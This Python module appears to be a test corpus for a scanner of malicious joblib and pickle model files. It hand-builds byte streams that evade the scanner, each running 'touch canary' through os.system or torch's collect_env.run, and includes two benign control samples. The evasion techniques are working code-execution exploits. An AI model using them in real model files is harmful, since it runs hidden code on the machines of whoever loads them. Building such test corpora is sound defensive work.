"""Corpus: what the fifth and sixth adversarial reviews of Scanner II got past it.

Each hid in where joblib reads array bytes and the machine did not, or the other way round: a
wrapper inside an object array's pickle (read by a plain unpickler, which reads no array), a
wrapper made by torch's ``_rebuild_from_type_v2`` (which calls the class) or given its
alignment by it (it sets its state's items on what it returns), and array bytes that rewrite
the memo so that ``pickle.load`` imports, outside every array, what joblib does not.

The sixth review (``review7-*``) hid a dangerous import behind the rule that drops an object
array's shifted module (joblib's name was allowed by family, whatever it is), and a wrapper
class behind padding that the walk of a call's arguments gave up on.

Most files start with a one-byte numeric array holding ``\\xff``: the readings that take array
bytes for opcodes stop there, so only joblib's own reading reaches the payload.
"""

from __future__ import annotations

import io
import pickle
import struct
from pathlib import Path

from tests.corpus import Sample, file_sample

_JOBLIB_LOAD = "import joblib\njoblib.load(ARTIFACT)\n"
_PICKLE_LOAD = "import pickle\nwith open(ARTIFACT, 'rb') as f:\n    pickle.load(f)\n"


def _text(value: str) -> bytes:
    return b"S'" + value.encode() + b"'\n"


def _u1(flags: int = 0) -> bytes:
    """numpy.dtype('u1') with its version-3 state, protocol 0."""
    state = b"(I3\n" + _text("|") + b"NNNI-1\nI-1\nI%d\nt" % flags
    return b"cnumpy\ndtype\n(" + _text("u1") + b"I00\nI01\ntR" + state + b"b"


def _state(count: int, dtype: bytes, alignment: bool = True) -> bytes:
    """A wrapper's BUILD state as joblib writes it (alignment None: no padding byte)."""
    return (
        b"(dp0\n" + _text("subclass") + b"cnumpy\nndarray\ns" + _text("shape")
        + b"(I%d\nts" % count + _text("order") + _text("C") + b"s" + _text("dtype") + dtype
        + b"s" + _text("allow_mmap") + b"I00\ns"
        + (_text("numpy_array_alignment_bytes") + b"Ns" if alignment else b"")
    )  # fmt: skip


def _wrapper(count: int, dtype: bytes | None = None) -> bytes:
    """A NumpyArrayWrapper of ``count`` items, made and built as joblib writes it; its bytes
    follow."""
    made = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81"
    return made + _state(count, dtype or _u1()) + b"b"


def _system(canary: Path) -> bytes:
    """DUP, os.system('touch canary'), POP, POP: leaves the stack as it found it."""
    return b"2cos\nsystem\n(" + _text(f"touch {canary}") + b"tR00"


# A numeric array of one byte, 0xff: no opcode, so pickle.load and pickle.py stop there.
_STOPPER = _wrapper(1) + b"\xff" + b"0"


def _wrapper_inside_an_object_array(canary: Path) -> bytes:
    # joblib reads an object array with a plain pickle._Unpickler: a wrapper built in there
    # is an object, and the bytes after it are opcodes, not an array.
    payload = _system(canary)
    inner = b"\x80\x02" + _wrapper(len(payload)) + payload + b"."
    return b"\x80\x02(" + _STOPPER + _wrapper(1, _u1(flags=63)) + inner + b"l."


def _wrapper_made_by_rebuild_from_type(canary: Path) -> bytes:
    # _rebuild_from_type_v2(NumpyArrayWrapper, NumpyArrayWrapper, args, {}) calls the class:
    # joblib's BUILD sees a wrapper of len(decoy) bytes; read as opcodes, the decoy is a wrapper
    # of its own whose bytes are the payload joblib runs.
    payload = _system(canary)
    decoy = b"0" + _wrapper(len(payload))
    wrapper = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
    made = (
        b"ctorch._tensor\n_rebuild_from_type_v2\n(" + wrapper + wrapper
        + b"(cnumpy\nndarray\n(I%d\nt" % len(decoy) + _text("C") + _u1() + b"I00\nNt}tR}b"
    )  # fmt: skip
    return b"\x80\x02(" + _STOPPER + made + decoy + payload + b"l."


def _alignment_set_by_rebuild_from_type(canary: Path) -> bytes:
    # _rebuild_from_type_v2(build_intlist, NumpyArrayWrapper, (W,), {alignment: 16}) returns W
    # and sets W.numpy_array_alignment_bytes = 16; W's BUILD state then leaves it out. joblib
    # reads a padding byte and skips what the machine would take for the array.
    payload = _system(canary)
    decoy = b"0" + _wrapper(len(payload))
    made = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81p900\n0"
    aligned = (
        b"ctorch._tensor\n_rebuild_from_type_v2\n(ctorch.jit._pickle\nbuild_intlist\n"
        + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n(g900\nt(dp1\n"
        + _text("numpy_array_alignment_bytes") + b"I16\nstR0"
    )  # fmt: skip
    built = b"g900\n" + _state(1, _u1(), alignment=False) + b"b"
    padding = bytes([len(decoy) - 1])
    return b"\x80\x02(" + _STOPPER + made + aligned + built + padding + decoy + payload + b"l."


def _array_bytes_rewrite_the_memo(canary: Path) -> bytes:
    # Read as opcodes, the array's bytes stay in step and put two other strings in the memo
    # slots of 'builtins' and 'str'; the STACK_GLOBAL after the array fetches them. joblib
    # imports builtins.str; pickle.load imports torch.utils.collect_env.run, which runs its
    # argument in a shell.
    region = b"2" + _text("torch.utils.collect_env") + b"p5\n0" + _text("run") + b"p6\n00"
    return (
        b"\x80\x02(" + _text("builtins") + b"p5\n0" + _text("str") + b"p6\n0"
        + _wrapper(len(region)) + region + b"0"
        + b"g5\ng6\n\x93(" + _text(f"touch {canary}") + b"tRl."
    )  # fmt: skip


def _list_of_estimators_with_object_arrays(canary: Path) -> bytes:
    import joblib
    import numpy as np

    # pickle.load reads each object array's pickle with the outer memo: its second 'numpy'
    # comes from the outer slot of that number, 'joblib.numpy_pickle' in this shape.
    estimators = [
        {"classes_": np.array(["cat", "dog", i], dtype=object), "coef_": np.ones(3) * i}
        for i in range(3)
    ]
    buffer = io.BytesIO()
    joblib.dump(estimators, buffer)
    return buffer.getvalue()


def _opcodes_of(value: object) -> bytes:
    """The opcodes that push ``value``, with no PROTO, memo or STOP (a pickler in fast mode)."""
    buffer = io.BytesIO()
    pickler = pickle.Pickler(buffer, protocol=3)
    pickler.fast = True  # no memo: the stream's own slots stay as they are
    pickler.dump(value)
    return buffer.getvalue()[2:-1]


def _memo_shift_of_an_allowed_family_name(canary: Path) -> bytes:
    # joblib imports sklearn.base.CodeType and sklearn.base.FunctionType (allowed by the
    # scikit-learn family rule, whatever the name) from memo slots; array bytes read by
    # pickle.load put 'types' in the module's slot, so it builds a function from a code object,
    # and other array bytes put that function where joblib has builtins.set, which is called.
    code = compile(f"__import__('os').system('touch {canary}')", "x", "exec")
    fields = (
        "argcount", "posonlyargcount", "kwonlyargcount", "nlocals", "stacksize", "flags",
        "code", "consts", "names", "varnames", "filename", "name", "qualname", "firstlineno",
        "linetable", "exceptiontable", "freevars", "cellvars",
    )  # fmt: skip
    args = tuple(getattr(code, f"co_{field}") for field in fields)
    return (
        b"\x80\x02(" + _text("sklearn.base") + b"p5\n0" + _text("CodeType") + b"p6\n0"
        + _text("FunctionType") + b"p7\n0" + b"cbuiltins\nset\np9\n0"
        + _array(_text("types") + b"p5\n0")
        + b"g5\ng6\n\x93" + _opcodes_of(args) + b"Rp10\n0"
        + b"g5\ng7\n\x93(g10\n}tRp11\n0"
        + _array(b"g11\np9\n0")
        + b"g9\n)R0l."
    )  # fmt: skip


def _array(region: bytes) -> bytes:
    """A 'u1' joblib array whose bytes are ``region``, popped after."""
    return _wrapper(len(region)) + region + b"0"


def _wrapper_hidden_behind_padded_arguments(canary: Path) -> bytes:
    # _rebuild_from_type_v2(build_intlist, NumpyArrayWrapper, (W,), {300 keys}) returns W: a
    # walk of the arguments that gives up early never sees the class, and the BUILD after it
    # reads an array for joblib only.
    payload = b"20cposix\nsystem\n(" + _text(f"touch {canary}") + b"tR"
    padding = b"}(" + b"".join(_text(f"junk{i}") + b"I0\n" for i in range(300)) + b"u"
    wrapper = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
    return (
        b"\x80\x02(" + wrapper + b")\x81p20\n0"
        + b"ctorch._tensor\n_rebuild_from_type_v2\n(ctorch.jit._pickle\nbuild_intlist\n"
        + wrapper + b"(g20\nt" + padding + b"tR" + _state(5, _u1()) + b"b"
        + b"B" + struct.pack("<I", len(payload)) + payload + b"00l."
    )  # fmt: skip


def _string_dtype_array(canary: Path) -> bytes:
    import joblib
    import numpy as np

    # numpy 2's StringDType reduces to a factory of its own and holds objects: joblib pickles
    # the array's items.
    strings = np.array(["cat", "dog", ""], dtype=np.dtypes.StringDType())
    buffer = io.BytesIO()
    joblib.dump({"labels": strings, "w": np.ones(2)}, buffer)
    return buffer.getvalue()


SAMPLES: list[Sample] = [
    file_sample(
        "review6-wrapper-inside-an-object-array",
        _wrapper_inside_an_object_array,
        "an array wrapper inside an object array's pickle: joblib runs the bytes after it",
        _JOBLIB_LOAD,
        filename="model.joblib",
        requires=("joblib",),
    ),
    file_sample(
        "review6-wrapper-made-by-rebuild-from-type",
        _wrapper_made_by_rebuild_from_type,
        "torch's _rebuild_from_type_v2 (allowed) calls the wrapper class: joblib reads an array",
        _JOBLIB_LOAD,
        filename="model.joblib",
        rules=("MLS-PKL-012",),
        requires=("joblib", "torch"),
    ),
    file_sample(
        "review6-wrapper-alignment-set-by-rebuild-from-type",
        _alignment_set_by_rebuild_from_type,
        "_rebuild_from_type_v2 sets a wrapper's alignment behind its BUILD state",
        _JOBLIB_LOAD,
        filename="model.joblib",
        rules=("MLS-PKL-012",),
        requires=("joblib", "torch"),
    ),
    file_sample(
        "review6-array-bytes-rewrite-the-memo",
        _array_bytes_rewrite_the_memo,
        "array bytes that rewrite two memo strings: pickle.load imports another callable",
        _PICKLE_LOAD,
        requires=("torch",),
    ),
    file_sample(
        "review7-memo-shift-of-an-allowed-family-name",
        _memo_shift_of_an_allowed_family_name,
        "array bytes turn joblib's sklearn.base.FunctionType into pickle.load's types one",
        _PICKLE_LOAD,
    ),
    file_sample(
        "review7-wrapper-hidden-behind-padded-arguments",
        _wrapper_hidden_behind_padded_arguments,
        "a wrapper class handed to a call after 300 items of padding",
        _JOBLIB_LOAD,
        filename="model.joblib",
        rules=("MLS-PKL-012",),
        requires=("joblib", "torch"),
    ),
    file_sample(
        "review6-benign-list-of-estimators-with-object-arrays",
        _list_of_estimators_with_object_arrays,
        "a list of dicts holding object arrays (class labels): pickle.load shifts its memo",
        None,
        filename="model.joblib",
        malicious=False,
    ),
    file_sample(
        "review6-benign-string-dtype-array",
        _string_dtype_array,
        "a numpy 2 StringDType array saved by joblib (pickled as objects)",
        None,
        filename="model.joblib",
        malicious=False,
    ),
]
